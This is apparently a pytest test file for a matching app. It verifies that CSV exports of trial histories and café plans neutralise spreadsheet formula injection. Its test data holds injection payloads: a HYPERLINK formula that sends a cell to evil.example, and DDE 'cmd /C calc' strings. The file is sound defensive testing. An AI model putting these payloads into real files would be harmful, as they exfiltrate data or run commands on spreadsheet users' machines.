"""Spreadsheet formula injection (OWASP, "CSV injection"): in the CSV
exports (a trial's history, a café's plan) a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading single quote, so a
spreadsheet shows it as text instead of running it. Ids, numbers and dates are
left alone: the history stays valid ``--history`` for ``matcher.pair`` and the
plan valid ``--fixed`` for ``matcher.rotate``."""

from __future__ import annotations

import csv
import io

import pytest

from matcher.accounts import create_organiser
from matcher.exports import FORMULA_STARTS, spreadsheet_safe
from matcher.files import read_history, read_plan
from matcher.pair import main as pair
from matcher.rotate import main as rotate

API = "/api/v1"
#: (typed, as the export writes it)
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
]
DEPARTMENTS = ["=1+1", "+Finance", "-IT-", "@HR"]


def auth(token):
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("text, safe", [
    *FORMULAS, ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=", "'="),
    ("Ann Lee", "Ann Lee"), ("", ""), (None, ""), ("1+1", "1+1"), ("a=b", "a=b"),
    ("'=already quoted", "'=already quoted"), (" =1", " =1"), ("Nursing", "Nursing"),
])
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe


def test_every_formula_start_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formulas(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{cell!r} would run as a formula"


@pytest.fixture
def organiser(app):
    with app.extensions["matcher.sessions"]() as db:
        _, token = create_organiser(db, "ann@example.org", "Ann", password="correct horse")
        db.commit()
    return token


def test_history_csv_is_neutralised_and_still_history(client, organiser, tmp_path):
    org = auth(organiser)
    trial = client.post(f"{API}/trials", json={"name": "T",
                                               "confirm_email": False}, headers=org).get_json()
    people = []
    for k, ((name, _), department) in enumerate(zip(FORMULAS, DEPARTMENTS, strict=True)):
        body = {"join_code": trial["join_code"], "name": name, "department": department,
                "email": f"p{k}@example.org"}
        reply = client.post(f"{API}/trials/{trial['id']}/signups", json=body)
        assert reply.status_code == 201
        people.append(body | {"id": reply.get_json()["participant_id"]})
    for seed in (1, 2):
        reply = client.post(f"{API}/trials/{trial['id']}/rounds",
                            json={"publish": True, "seed": seed}, headers=org)
        assert reply.status_code == 201
    text = client.get(f"{API}/trials/{trial['id']}/history.csv", headers=org).get_data(
        as_text=True)
    assert_no_formulas(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    written = {(r["person_id"], r["name"], r["department"]) for r in rows}
    assert written == {(p["id"], safe, "'" + p["department"])
                       for p, (_, safe) in zip(people, FORMULAS, strict=True)}
    # The organiser's download is the same file.
    client.post("/organiser/login", data={"email": "ann@example.org",
                                          "password": "correct horse"})
    assert client.get(f"/organiser/trials/{trial['id']}/history.csv").get_data(
        as_text=True) == text

    # Still history for matcher.pair: both rounds read, every pair known.
    history = tmp_path / "history.csv"
    history.write_text(text)
    assert len(read_history(history, {p["id"] for p in people}).rounds) == 2
    people_file = tmp_path / "people.csv"
    with people_file.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "email", "department"])
        for p in people:
            writer.writerow([p["id"], p["name"], p["email"], p["department"]])
    out = tmp_path / "next.csv"
    assert pair([str(people_file), "--history", str(history), "--seed", "3",
                 "--time-limit", "2", "--out", str(out)]) == 0
    new = list(csv.DictReader(out.open()))
    assert {r["round"] for r in new} == {"3"}  # numbered after the history's rounds
    met = {frozenset(r["person_id"] for r in rows if (r["round"], r["group"]) == key)
           for key in {(r["round"], r["group"]) for r in rows}}
    made = {frozenset(r["person_id"] for r in new if r["group"] == g)
            for g in {r["group"] for r in new}}
    assert not made & met  # four people, three pairings: the one not yet met


def test_cafe_plan_csv_is_neutralised_and_still_a_plan(client, organiser, tmp_path):
    org = auth(organiser)
    cafe = client.post(f"{API}/cafes", json={"name": "C", "tables": 2, "rounds": 2},
                       headers=org).get_json()
    for (name, _), department in zip(FORMULAS, DEPARTMENTS, strict=True):
        reply = client.post(f"{API}/cafes/{cafe['code']}/participants", json={
            "name": name, "department": department, "organisation": "=ORG()"})
        assert reply.status_code == 201
    assert client.post(f"{API}/cafes/{cafe['code']}/rounds/next", json={"seed": 1},
                       headers=org).status_code == 200
    text = client.get(f"{API}/cafes/{cafe['code']}/plan.csv", headers=org).get_data(
        as_text=True)
    assert_no_formulas(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {(r["name"], r["department"], r["organisation"]) for r in rows} == {
        (safe, "'" + department, "'=ORG()")
        for (_, safe), department in zip(FORMULAS, DEPARTMENTS, strict=True)}

    # Still a --fixed plan for matcher.rotate: the played round kept byte for byte.
    lines = text.splitlines(keepends=True)
    fixed = tmp_path / "played.csv"
    fixed.write_text(lines[0] + "".join(line for line in lines[1:] if line.startswith("1,")))
    assert len(read_plan(fixed, 2).rounds) == 1
    people_file = tmp_path / "people.csv"
    with people_file.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "department", "organisation"])
        for row in rows:
            if row["round"] == "1":
                writer.writerow([row["person_id"], row["name"], row["department"],
                                 row["organisation"]])
    out = tmp_path / "plan.csv"
    assert rotate([str(people_file), "--tables", "2", "--rounds", "2", "--fixed", str(fixed),
                   "--seed", "1", "--time-limit", "1", "--out", str(out)]) == 0
    assert out.read_text().startswith(fixed.read_text())
    assert len(read_plan(out, 2).rounds) == 2
